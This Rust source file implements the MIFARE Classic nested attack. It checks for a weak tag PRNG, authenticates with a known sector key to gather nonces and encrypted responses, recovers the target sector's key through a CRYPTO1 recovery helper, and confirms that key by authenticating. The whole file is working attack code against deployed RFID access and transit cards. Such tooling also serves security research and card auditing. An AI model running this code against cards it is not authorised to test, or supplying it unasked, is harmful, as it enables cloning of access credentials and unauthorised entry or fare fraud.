//! Nested attack (C7): uses a known-key authentication to leak a tag nonce
//! and keystream from another sector, then recovers that sector's key by
//! CRYPTO1 state recovery over the leaked nonce/keystream stream — see
//! [`crate::crypto1::recover_key`].

use crate::crypto1;
use crate::error::{EngineError, EngineResult, NotVulnerableReason};
use crate::keytable::{Key, KeyType};
use crate::transport::{abort_if_cancelled, DeviceTransport, PrngWeak};
use log::{debug, info};
use std::sync::atomic::AtomicBool;

/// Bounds per-sector nested-attack retries before the caller should fall
/// back to hardnested (named in §4.7/§4.10 of the spec this implements).
pub const MIFARE_SECTOR_RETRY: usize = 3;

const NONCES_PER_ROUND: usize = 2;

/// Attempt nested recovery of `target_block`/`target_kt`, authenticated
/// from `known_block`/`known_kt`/`known_key`.
pub fn run(
    transport: &mut dyn DeviceTransport,
    known_block: usize,
    known_kt: KeyType,
    known_key: Key,
    target_block: usize,
    target_kt: KeyType,
    cancel: &AtomicBool,
) -> EngineResult<Key> {
    if transport.detect_prng_weak()? != PrngWeak::Weak {
        return Err(EngineError::NotVulnerable(NotVulnerableReason::PrngUnpredictable));
    }
    let cuid = transport.select()?.uid32();

    for attempt in 0..MIFARE_SECTOR_RETRY {
        abort_if_cancelled(cancel)?;
        let samples = transport.acquire_nonces(
            known_block,
            known_kt,
            known_key,
            target_block,
            target_kt,
            NONCES_PER_ROUND,
            false,
        )?;
        debug!(
            "nested attempt {attempt}: acquired {} nonce sample(s) for sector {}",
            samples.len(),
            samples.first().map(|s| s.target_sector).unwrap_or_default()
        );

        if samples.len() < NONCES_PER_ROUND {
            continue;
        }

        for sample in &samples {
            let Some(key) = crypto1::recover_key(cuid, sample.nt, sample.nr_enc, sample.ar_enc) else {
                continue;
            };
            if transport.authenticate(target_block, target_kt, key).is_ok() {
                info!("nested: recovered key for sector after {} attempt(s)", attempt + 1);
                return Ok(key);
            }
        }
    }

    Err(EngineError::NotVulnerable(NotVulnerableReason::NoCandidate))
}
